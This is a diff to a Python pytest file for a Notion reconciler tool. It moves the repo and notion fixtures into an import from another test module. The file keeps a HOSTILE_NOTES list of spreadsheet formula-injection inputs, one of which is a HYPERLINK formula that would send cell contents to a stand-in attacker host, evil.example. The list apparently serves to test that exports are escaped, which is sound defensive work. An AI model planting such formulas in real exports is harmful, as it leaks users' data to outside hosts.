@@ -12,14 +12,17 @@ import os
 import pty
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 import yaml
 
 from reconciler.manifest import load_desired_state
+from tests.cli import test_import_export_doctor as adoption
 from tests.cli.test_import_export_doctor import LocalNotion, run, text
+
+repo = adoption.repo  # an empty repository as the current directory, no token
+notion = adoption.notion  # its --local workspace, filled through the API
 
 HOSTILE_NOTES = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
@@ -32,22 +35,6 @@ HOSTILE_NOTES = [
     "'=written escaped already",
 ]
 FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
-
-
-@pytest.fixture
-def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    (tmp_path / "reconciler.yaml").write_text("manifests: manifests\n", encoding="utf-8")
-    monkeypatch.chdir(tmp_path)
-    for name in ("NOTION_TOKEN", "NOTION_TOKEN_FILE", "NOTION_BASE_URL", "NO_COLOR"):
-        monkeypatch.delenv(name, raising=False)
-    return tmp_path
-
-
-@pytest.fixture
-def notion(repo: Path) -> Iterator[LocalNotion]:
-    local = LocalNotion(repo)
-    yield local
-    local.close()
 
 
 @pytest.fixture
